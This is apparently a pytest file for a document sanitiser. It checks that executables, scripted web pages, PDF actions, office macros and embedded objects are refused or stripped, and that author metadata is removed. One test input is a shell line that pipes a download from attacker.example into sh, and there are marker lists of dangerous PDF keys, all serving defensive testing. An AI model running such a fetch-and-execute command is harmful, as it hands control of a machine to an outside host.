"""Issue 18 §2: no file that reaches staff can act when opened, call out, or name anyone.

Each hostile file of :mod:`tests.storage.media.attacks` goes through the one door
(:func:`storage.media.clean`); what comes out is rebuilt from an allow-list, so the test
checks both that every hostile marker is gone and that nothing but the allowed parts is
there at all.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pytest
from PIL import Image
from pypdf import PdfReader

from storage.media import MediaRefused, Refusal, clean
from storage.media.types import DOCX, PDF, XLSX
from tests.storage.media.attacks import (
    AUTHOR,
    E_MAIL,
    HTA,
    NEVER_STORED,
    STORY,
    docx_attack,
    ods_attack,
    odt_attack,
    pdf_attack,
    pdf_pages,
    rtf_attack,
    xlsx_attack,
)

ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def refusal(data: bytes, declared: str | None) -> Refusal:
    with pytest.raises(MediaRefused) as caught:
        clean(data, declared)
    return caught.value.reason


def entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def assert_nothing_hostile(data: bytes) -> None:
    """Neither in the file nor in any part of it (office files are compressed archives)."""
    parts = [data]
    if data.startswith(b"PK"):
        parts += entries(data).values()
    for part in parts:
        for marker in NEVER_STORED:
            assert marker not in part, marker


# Scripts and programs --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "declared"),
    [
        (HTA, "text/plain"),
        (HTA, None),
        (b"<!DOCTYPE html><html><body onload=alert(1)>hi</body></html>", "text/plain"),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', None),
        (b'<?xml version="1.0"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/>', "text/plain"),
        (b"#!/bin/sh\ncurl http://attacker.example | sh\n", "text/plain"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\xff\xff", "application/pdf"),
        (b"\x7fELF\x02\x01\x01" + bytes(32), None),
    ],
    ids=["hta-as-text", "hta", "html", "svg", "xml", "shell-script", "exe-as-pdf", "elf"],
)
def test_programs_and_web_pages_are_refused_whatever_their_label(
    data: bytes, declared: str | None
) -> None:
    assert refusal(data, declared) is Refusal.EXECUTABLE


def test_plain_text_stays_plain_text() -> None:
    text = "Список роздачі: 12 родин. A < B and C > D.\n".encode()
    result = clean(text, "text/plain")
    assert result.data == text and result.mime_type == "text/plain"


# PDF ---------------------------------------------------------------------------------


def test_a_pdf_reaches_staff_as_pictures_of_its_pages_and_nothing_else() -> None:
    original = pdf_attack()
    for marker in (b"/JavaScript", b"/Launch", b"/URI", b"/AA", b"/EmbeddedFile", b"/Annots"):
        assert marker in original
    result = clean(original, "application/pdf")
    assert result.mime_type == PDF
    assert_nothing_hostile(result.data)
    for marker in (
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/URI",
        b"/AA",
        b"/OpenAction",
        b"/Annots",
        b"/EmbeddedFile",
        b"/Names",
        b"/Metadata",
        b"/Author",
        b"/Font",
        b"cmd.exe",
    ):
        assert marker not in result.data, marker
    reader = PdfReader(io.BytesIO(result.data))
    assert set(reader.trailer.keys()) <= {"/Size", "/Root"}
    assert set(reader.trailer["/Root"].keys()) == {"/Type", "/Pages"}
    (page,) = reader.pages
    assert set(page.keys()) == {"/Type", "/Parent", "/MediaBox", "/Resources", "/Contents"}
    assert set(page["/Resources"].keys()) == {"/XObject"}
    assert [float(v) for v in page.mediabox] == [0, 0, 300, 200]  # the page keeps its size
    (image,) = page.images
    assert image.image is not None
    # About 150 dpi: 300 x 200 points are 625 x 417 pixels.
    assert abs(image.image.width - 625) <= 2 and abs(image.image.height - 417) <= 2
    # The line of text is in the picture (dark pixels where it was drawn).
    assert image.image.convert("L").getextrema()[0] < 100


def test_the_text_of_a_pdf_is_kept_beside_it() -> None:
    result = clean(pdf_attack(), "application/pdf")
    assert result.text is not None and STORY in result.text
    assert AUTHOR not in result.text and E_MAIL not in result.text


def test_a_pdf_of_more_than_fifty_pages_is_refused() -> None:
    assert len(clean(pdf_pages(50), "application/pdf").data) > 0
    assert refusal(pdf_pages(51), "application/pdf") is Refusal.TOO_MANY_PAGES


def test_a_huge_pdf_page_is_rendered_within_the_pixel_cap() -> None:
    from storage.media.documents import MAX_PAGE_PIXELS

    result = clean(pdf_pages_sized(14_400, 14_400), "application/pdf")  # 200 x 200 inches
    (page,) = PdfReader(io.BytesIO(result.data)).pages
    (image,) = page.images
    assert image.image is not None
    assert image.image.width * image.image.height <= MAX_PAGE_PIXELS
    assert image.image.width > 2000  # drawn smaller, not refused


def pdf_pages_sized(width: float, height: float) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width, height)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# Office documents ----------------------------------------------------------------------

DOCX_PARTS = {
    "[Content_Types].xml",
    "_rels/.rels",
    "word/document.xml",
    "word/_rels/document.xml.rels",
}


def docx_text(data: bytes) -> str:
    document = entries(data)["word/document.xml"].decode()
    return " ".join(re.findall(r"<w:t(?: [^>]*)?>([^<]*)</w:t>", document))


def assert_rebuilt_docx(data: bytes) -> dict[str, bytes]:
    parts = entries(data)
    media = {name for name in parts if name.startswith("word/media/")}
    assert set(parts) - media == DOCX_PARTS
    rels = parts["word/_rels/document.xml.rels"].decode()
    assert "TargetMode" not in rels and "External" not in rels
    assert set(re.findall(r'Type="[^"]*/(\w+)"', rels)) <= {"image"}
    for name in media:
        with Image.open(io.BytesIO(parts[name])) as image:
            assert not image.getexif()
    return parts


def test_a_docx_is_rebuilt_from_its_text_tables_and_pictures() -> None:
    result = clean(docx_attack(), DOCX)
    assert result.mime_type == DOCX
    assert_nothing_hostile(result.data)
    parts = assert_rebuilt_docx(result.data)
    everything = b"".join(parts.values())
    for marker in (
        b"OLEObject",
        b"attachedTemplate",
        b"INCLUDEPICTURE",
        b"instrText",
        b"hyperlink",
    ):
        assert marker not in everything, marker
    text = docx_text(result.data)
    for kept in (STORY, "Twice.", "See the list", "Village", "Kits", "Bilohirka", "12"):
        assert kept in text
    assert "Deleted by" not in text  # a tracked deletion is not what the document says
    assert len([n for n in parts if n.startswith("word/media/")]) == 1


def test_a_docx_with_macros_loses_them() -> None:
    result = clean(docx_attack(macro=True), DOCX)
    parts = assert_rebuilt_docx(result.data)
    assert not any("vba" in name.lower() for name in parts)
    assert b"AutoOpen" not in b"".join(parts.values())


def test_an_xlsx_is_rebuilt_from_its_cell_values() -> None:
    result = clean(xlsx_attack(), XLSX)
    assert result.mime_type == XLSX
    assert_nothing_hostile(result.data)
    parts = entries(result.data)
    assert set(parts) == {
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/worksheets/sheet1.xml",
    }
    sheet = parts["xl/worksheets/sheet1.xml"]
    assert b"<f>" not in sheet and b"<f " not in sheet  # no formula survives, as a formula
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(result.data))
    (sheet_,) = book.worksheets
    assert sheet_.title == "List"
    assert [[c.value for c in row] for row in sheet_.iter_rows(max_col=3)] == [
        ["Village", "Kits", None],
        [STORY, 12, "ok"],
        ['=HYPERLINK("http://link.test/x","open")', None, None],
    ]
    assert sheet_["A3"].data_type == "s"  # text that looks like a formula stays text


def test_an_odt_becomes_a_rebuilt_docx() -> None:
    result = clean(odt_attack(), ODT)
    assert result.mime_type == DOCX
    assert_nothing_hostile(result.data)
    parts = assert_rebuilt_docx(result.data)
    assert b"vnd.sun.star.script" not in b"".join(parts.values())
    text = docx_text(result.data)
    for kept in ("Report", STORY, "See the list", "Bilohirka", "12"):
        assert kept in text
    assert len([n for n in parts if n.startswith("word/media/")]) == 1


def test_an_ods_becomes_a_rebuilt_xlsx_without_unfolding_empty_rows() -> None:
    result = clean(ods_attack(), ODS)
    assert result.mime_type == XLSX
    assert_nothing_hostile(result.data)
    from openpyxl import load_workbook

    (sheet,) = load_workbook(io.BytesIO(result.data)).worksheets
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [["Bilohirka", 12]]


def test_an_rtf_becomes_a_docx_of_its_text() -> None:
    original = rtf_attack()
    assert b"objdata" in original
    result = clean(original, "application/rtf")
    assert result.mime_type == DOCX
    assert_nothing_hostile(result.data)
    parts = assert_rebuilt_docx(result.data)
    assert b"objdata" not in b"".join(parts.values())
    text = docx_text(result.data)
    assert STORY in text and "Василь" in text and "\u0457" in text and "see" in text
    assert "Equation" not in text and "INCLUDEPICTURE" not in text


@pytest.mark.parametrize(
    ("make", "declared"),
    [(docx_attack, DOCX), (xlsx_attack, XLSX), (odt_attack, ODT), (ods_attack, ODS)],
    ids=["docx", "xlsx", "odt", "ods"],
)
def test_office_text_is_kept_for_search(make: Callable[[], bytes], declared: str) -> None:
    result = clean(make(), declared)
    assert result.text is not None and ("Bilohirka" in result.text or STORY in result.text)
    assert AUTHOR not in result.text and E_MAIL not in result.text
